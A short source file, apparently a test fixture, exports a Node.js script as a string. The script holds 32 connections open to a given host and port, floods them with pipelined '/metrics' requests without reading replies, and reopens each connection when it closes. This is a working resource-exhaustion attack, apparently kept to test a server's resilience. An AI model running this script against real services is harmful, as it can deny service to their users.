/** Any local user's: 32 connections that pipeline requests, never read an answer, and come again when they are closed. */
export const PIPELINE_WITHOUT_READING = `
  const net = require('node:net');
  const [host, port] = process.argv[1].split(':');
  const requests = Buffer.from('GET /metrics HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.repeat(2_000));
  let opened = 0;
  const open = () => {
    const connection = net.connect(Number(port), host, () => {
      connection.pause();
      const send = () => { while (connection.write(requests)); };
      connection.on('drain', send);
      send();
      if (++opened === 32) console.log('all open');
    });
    connection.on('error', () => {});
    connection.on('close', () => setImmediate(open));
  };
  for (let i = 0; i < 32; i++) open();`;
